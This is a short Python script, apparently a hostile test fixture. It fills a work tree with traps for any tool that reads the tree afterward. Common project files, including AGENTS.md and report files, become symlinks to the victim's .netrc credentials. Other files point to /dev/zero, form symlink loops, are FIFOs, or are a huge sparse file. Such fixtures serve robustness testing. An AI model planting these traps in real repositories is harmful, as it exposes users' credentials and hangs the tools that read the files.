"""For whoever reads the work tree outside when this has ended: secrets behind names that are read, and names whose reading
never ends."""
import os

victim = os.environ["VICTIM"]
secret = victim + "/.netrc"


def put(make, name):
    try:
        if os.path.lexists(name):
            os.unlink(name)
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        make(name)
    except OSError as error:
        print(name, error)


for name in ("assay.toml", "package.json", "Makefile", "pyproject.toml", ".gitignore", ".gitattributes", ".gitmodules", ".mailmap",
             "value", "report.md", "report.json", "junit.xml", "AGENTS.md", "new.txt", "src/new.py", ".assay-report.json"):
    put(lambda at: os.symlink(secret, at), name)
put(lambda at: os.symlink(victim, at), "home-folder")
put(lambda at: os.symlink("/dev/zero", at), "zero.json")
put(lambda at: os.symlink("loop-b", at), "loop-a")
put(lambda at: os.symlink("loop-a", at), "loop-b")
for name in ("wanted", "package-lock.json", "Cargo.toml", "deep/fifo.py"):
    put(lambda at: os.mkfifo(at), name)
fd = os.open("huge.py", os.O_CREAT | os.O_WRONLY, 0o600)
os.ftruncate(fd, 300 << 20)  # of no blocks
print("tried")
